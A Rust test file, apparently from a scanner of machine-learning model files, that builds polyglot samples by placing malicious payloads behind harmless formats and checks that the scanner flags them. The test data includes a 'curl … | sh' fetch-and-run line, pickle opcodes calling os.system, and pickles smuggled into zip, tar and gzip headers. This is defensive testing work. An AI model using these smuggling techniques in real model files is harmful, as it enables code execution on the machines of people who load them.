//! One content, two formats: a loader may take either.

use weighhouse_formats::build::gguf::Gguf;
use weighhouse_formats::build::safetensors::Safetensors;
use weighhouse_formats::build::zip::{Archive, Member};
use weighhouse_formats::build::{compress, npy, tar};

use super::containers::{harmless, payload};
use crate::attack::{Sample, assert_seen, inspect};

#[test]
fn pairs_of_formats() {
    let fronts: Vec<(&str, Vec<u8>)> = vec![
        ("safetensors", Safetensors::new().tensor("a", "U8", &[4], &[1, 2, 3, 4]).build()),
        ("gguf", Gguf::new().text("general.architecture", "llama").tensor("a", &[4], 24, &[1, 2, 3, 4]).build()),
        ("npy", npy::array("'<i4'", "(1,)", &[1, 0, 0, 0])),
        ("pickle", harmless()),
        ("tar", tar::archive(&[tar::file("a.txt", b"text")])),
        ("gzip", compress::gzip(b"text")),
        ("zip", Archive::of([Member::stored("a.txt", b"text")]).build()),
        ("json", br#"{"model_type":"bert"}"#.to_vec()),
        ("text", b"A model card.\n".to_vec()),
        ("png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\0\0\0\0\x3a\x7e\x9b\x55\0\0\0\nIDATx\x9cc`\0\0\0\x02\0\x01\x48\xaf\xa4\x71\0\0\0\0IEND\xaeB`\x82".to_vec()),
        ("gif", b"GIF89a\x01\0\x01\0\0\0\0;".to_vec()),
        ("pdf", b"%PDF-1.4\n%%EOF\n".to_vec()),
        ("7z", b"7z\xbc\xaf\x27\x1c\0\x04".to_vec()),
    ];
    let backs: Vec<(&str, Vec<u8>)> = vec![
        ("zip", Archive::of([Member::stored("a/data.pkl", &payload())]).build()),
        ("deflated zip", Archive::of([Member::deflated("a/data.pkl", &payload())]).build()),
        ("pickle", payload()),
        ("gzip", compress::gzip(&payload())),
        ("tar", tar::archive(&[tar::file("x", &payload())])),
        (
            "elf",
            [b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0\x01\0\0\0".as_slice(), &[0; 40]].concat(),
        ),
        ("shell", b"#!/bin/sh\ncurl http://example.org/x | sh\n".to_vec()),
    ];
    let mut samples = Vec::new();
    for (front, first) in &fronts {
        for (back, second) in &backs {
            // A script behind a text is a text.
            if *back == "shell" && matches!(*front, "text" | "json" | "pdf" | "7z" | "gif") {
                continue;
            }
            // What no parser reads is a gap as a whole; `what_is_not_read_does_not_pass` holds that.
            if matches!(*back, "gzip" | "tar" | "elf") && matches!(*front, "text" | "json" | "pdf" | "7z") {
                continue;
            }
            for name in ["model.safetensors", "model.bin", "x.png"] {
                samples.push(Sample::new(
                    format!("{back} behind {front}"),
                    name,
                    [first.clone(), second.clone()].concat(),
                ));
            }
        }
    }
    assert_seen("polyglots", &samples);
}

#[test]
fn what_is_not_read_does_not_pass() {
    for front in [
        b"%PDF-1.4\n%%EOF\n".as_slice(),
        b"7z\xbc\xaf\x27\x1c\0\x04",
        b"{}\n",
        b"Rar!\x1a\x07\x01\0",
        b"\x89HDF\r\n\x1a\n",
    ] {
        for back in [
            compress::gzip(&payload()),
            tar::archive(&[tar::file("x", &payload())]),
            b"\x7fELF\x02\x01\x01\0\0".to_vec(),
        ] {
            let inspection = inspect([("model.bin".to_owned(), [front.to_vec(), back].concat())]);
            assert!(inspection.gaps.iter().any(|gap| gap.reason != "internal"), "{front:?}");
        }
    }
}

#[test]
fn a_pickle_that_is_also_something_else() {
    let samples = [
        ("pickle and zip", [payload(), Archive::of([Member::stored("a", b"a")]).build()].concat()),
        (
            "persistent id that is a zip",
            Archive {
                after: b"\n.".to_vec(),
                ..Archive::of([Member::stored("a", b"x\ncos\nsystem\n(Vid\ntR.")])
            }
            .build(),
        ),
        ("pickle in a tar name", {
            let mut archive = tar::archive(&[tar::file("cos\nsystem\n(Vid\ntR.", b"x")]);
            archive.truncate(archive.len());
            archive
        }),
        ("text pickle in Python source", b"cos\nsystem\n(S'id'\ntR.\n# print('hello')\n".to_vec()),
        ("gzip whose name is a pickle", {
            let mut bytes = b"\x1f\x8b\x08\x08\0\0\0\0\0\x03".to_vec();
            bytes.extend(payload().into_iter().filter(|byte| *byte != 0));
            bytes.push(0);
            bytes.extend(&compress::gzip(b"x")[10..]);
            bytes
        }),
    ];
    let samples: Vec<Sample> =
        samples.into_iter().map(|(what, bytes)| Sample::new(what, "model.pkl", bytes)).collect();
    assert_seen("also", &samples);
}
